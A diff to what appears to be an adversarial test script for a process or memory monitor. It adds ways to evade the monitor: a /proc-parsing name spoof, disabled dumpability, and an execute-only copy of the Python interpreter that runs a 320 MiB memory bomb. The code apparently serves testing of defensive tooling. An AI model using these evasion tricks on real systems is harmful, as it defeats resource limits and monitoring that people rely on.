@@ -1,10 +1,22 @@
+import contextlib
+import os
+import shutil
+import subprocess
+import sys
 import time
 
 from attacker import syscall
 
 PR_SET_DUMPABLE, PR_SET_NAME = 4, 15
-syscall("prctl", PR_SET_DUMPABLE, 0, 0, 0, 0)
+BOMB = "import time; heap = [(b'x' * (8 << 20), time.sleep(0.01)) for _ in range(40)]; print('ESCAPED: 320 MiB')"
+with contextlib.suppress(OSError):
+    syscall("prctl", PR_SET_DUMPABLE, 0, 0, 0, 0)
 syscall("prctl", PR_SET_NAME, b") R 1 1 (", 0, 0, 0)
+if os.path.basename(os.path.realpath(sys.executable)).startswith("python"):
+    shutil.copy(os.path.realpath(sys.executable), "/tmp/unreadable")  # a program that its user cannot read is hidden, too
+    os.chmod("/tmp/unreadable", 0o111)
+    home = {**os.environ, "PYTHONHOME": sys.base_prefix}
+    print(subprocess.run(["/tmp/unreadable", "-I", "-c", BOMB], env=home, stdout=subprocess.PIPE).stdout)
 heap = []
 for _ in range(40):
     heap.append(b"x" * (8 << 20))
